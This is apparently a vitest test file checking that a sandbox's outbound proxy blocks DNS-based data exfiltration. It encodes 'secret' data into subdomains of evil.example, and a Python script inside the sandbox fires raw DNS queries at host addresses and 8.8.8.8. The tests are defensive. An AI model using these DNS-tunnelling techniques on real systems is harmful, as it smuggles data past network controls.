import { createSocket, type Socket } from "node:dgram";
import { Resolver } from "node:dns/promises";
import { networkInterfaces } from "node:os";
import { afterAll, beforeAll, beforeEach, expect, onTestFinished, test } from "vitest";
import { egressWorld } from "../support/egress-world.ts";
import { sampleRepository, type SampleRepository } from "../support/sample-repository.ts";
import { startSandbox } from "../support/start-sandbox.ts";

/** A name server on every address of this machine that writes down what it is asked; each name leads to 127.0.0.1. */
let server: Socket;
let port = 0;
const asked: string[] = [];
let sample: SampleRepository;

beforeAll(async () => {
  server = createSocket("udp4");
  server.on("message", (query, from) => {
    asked.push(nameIn(query));
    server.send(answerTo(query), from.port, from.address);
  });
  await new Promise<void>((resolve) => server.bind(0, "0.0.0.0", resolve));
  ({ port } = server.address());
  sample = sampleRepository();
});
beforeEach(() => {
  asked.length = 0;
});
afterAll(() => {
  server?.close();
  sample?.[Symbol.dispose]();
});

test("the way out asks a name server for the names that are allowed and for no other", async () => {
  const resolver = new Resolver();
  resolver.setServers([`127.0.0.1:${port}`]);
  const world = await egressWorld({
    resolve: async (name) => (await resolver.resolve4(name)).map((address) => ({ address, family: 4 })),
  });
  onTestFinished(() => world[Symbol.asyncDispose]());
  for (let n = 0; n < 50; n += 1) {
    const name = `${Buffer.from(`secret ${n}`).toString("hex")}.evil.example`;
    expect(await world.connect(`${name}${world.tls}`)).toMatch(/^HTTP\/1.1 403/);
    expect(await world.ask(`http://${name}${world.plain}/`)).toMatchObject({ status: 403 });
    expect(await world.connect(`${name}.registry.example${world.tls}`)).toMatch(/^HTTP\/1.1 403/);
  }
  expect(asked).toEqual([]);
  // Upper and lower case would carry a bit for each letter.
  expect(await world.ask(`https://ReGiStRy.eXaMpLe${world.tls}/`)).toMatchObject({ status: 200 });
  expect(asked).toEqual(["registry.example"]);
});

test("names below a `*.suffix` carry only so many messages out", async () => {
  const names: string[] = [];
  const world = await egressWorld({
    allow: [{ host: "*.wide.example", methods: ["GET"] }],
    caps: { hosts: 5 },
    resolve: async (name) => {
      names.push(name);
      return [{ address: "127.0.0.1", family: 4 }];
    },
  });
  onTestFinished(() => world[Symbol.asyncDispose]());
  for (let n = 0; n < 20; n += 1) {
    const { status } = await world.ask(`http://secret-${n}.wide.example${world.plain}/`);
    expect(status).toBe(n < 5 ? 200 : 429);
  }
  expect(names).toHaveLength(5);
});

test("a sandbox has no resolver, and its packets reach no name server on any address", async () => {
  await using sandbox = await startSandbox(sample);
  const addresses = Object.values(networkInterfaces()).flatMap((one) => one ?? []);
  const own = addresses.filter(({ family }) => family === "IPv4").map(({ address }) => address);
  const script = [
    "import socket, sys",
    "def tried(what, call):",
    "    try: call(); print(what, 'sent')",
    "    except OSError as error: print(what, 'failed')",
    "query = bytes.fromhex('000101000001000000000000067365637265740465766c6c0000010001')",
    `for address in ${JSON.stringify([...own.filter((one) => one !== "127.0.0.1"), "172.17.0.1", "8.8.8.8"])}:`,
    "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
    `    for port in (53, ${port}): tried('udp', lambda: s.sendto(query, (address, port)))`,
    "    t = socket.socket(); t.settimeout(2)",
    `    tried('tcp', lambda: t.connect((address, 53)))`,
    "tried('name', lambda: socket.getaddrinfo('secret.evil.example', 443))",
    "tried('allowed name', lambda: socket.getaddrinfo('registry.npmjs.org', 443))",
    `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ('127.0.0.1', ${port}))`,
  ].join("\n");
  await sandbox.writeFile("dns.py", script);
  const { exitCode, preview } = await sandbox.exec("python3 dns.py", { timeoutMs: 30_000 });
  expect(exitCode).toBe(0);
  expect(preview).toContain("allowed name failed");
  expect(preview).not.toContain("sent");
  expect(asked).toEqual([]);
});

/** The first question's name. */
function nameIn(query: Buffer): string {
  const labels: string[] = [];
  for (let at = 12; (query[at] ?? 0) > 0; at += 1 + query[at]!)
    labels.push(query.subarray(at + 1, at + 1 + query[at]!).toString("latin1"));
  return labels.join(".");
}

/** The question again, and one address. */
function answerTo(query: Buffer): Buffer {
  const end = query.indexOf(0, 12) + 5;
  const header = Buffer.from([query[0]!, query[1]!, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
  const address = Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 9, 0, 4, 127, 0, 0, 1]);
  return Buffer.concat([header, query.subarray(12, end), address]);
}
